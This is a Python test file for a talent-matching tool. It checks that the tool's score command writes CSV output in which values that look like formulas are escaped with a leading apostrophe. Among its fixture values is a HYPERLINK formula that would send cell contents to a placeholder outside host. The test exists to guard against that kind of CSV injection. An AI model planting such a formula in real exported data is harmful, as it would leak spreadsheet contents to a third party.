"""``talentmatch score`` writes a CSV a spreadsheet opens without running anything in it (CSV formula injection)."""

import csv
import os
import subprocess
import sys
from pathlib import Path

from service.cli.score import csv_cell

TALENTMATCH = Path(sys.executable).with_name("talentmatch")
FORMULAS = ['=HYPERLINK("https:x.example?q="&A1)', "+1+1", "-2+3", "@SUM(A1:A9)"]


def test_csv_cells_that_start_like_a_formula_are_quoted():
    for value in [*FORMULAS, "\tx", "\rx"]:
        assert csv_cell(value) == "'" + value
    assert [csv_cell(v) for v in ("n1", "t-1", "李伟", "")] == ["n1", "t-1", "李伟", ""]


def test_score_output_neutralises_formula_ids(make_world, world_data, tmp_path):
    """Ids come from the caller's files: a need and talents whose ids are formulas reach the output as text."""
    world_data["need"].append({"id": FORMULAS[0], "title": "Perovskite cells lead", "required_skills": ["perovskite"]})
    world_data["talent"] += [{"id": f, "name": "x", "skills": ["perovskite"]} for f in FORMULAS[1:]]
    world = make_world(world_data)
    pairs = tmp_path / "pairs.csv"
    with pairs.open("w", newline="", encoding="utf-8") as f:
        csv.writer(f).writerows([("need_id", "talent_id"), *((FORMULAS[0], t) for t in FORMULAS[1:])])
    out = tmp_path / "scores.csv"
    env = os.environ | {"TALENTMATCH_VECTOR_CACHE_DIR": str(tmp_path / "v"), "MLFLOW_DISABLE_TELEMETRY": "true"}
    done = subprocess.run(
        [str(TALENTMATCH), "score", str(pairs), "--world", str(world), "--out", str(out), "--encoder", "none"],
        cwd=tmp_path, env=env, capture_output=True, text=True,
    )  # fmt: skip
    assert done.returncode == 0, done.stderr
    with out.open(newline="", encoding="utf-8") as f:
        rows = list(csv.reader(f))
    assert rows[0] == ["need_id", "talent_id", "score"]
    assert [r[:2] for r in rows[1:]] == [["'" + FORMULAS[0], "'" + t] for t in FORMULAS[1:]]
    assert all(not cell.startswith(("=", "+", "-", "@")) for r in rows[1:] for cell in r[:2])
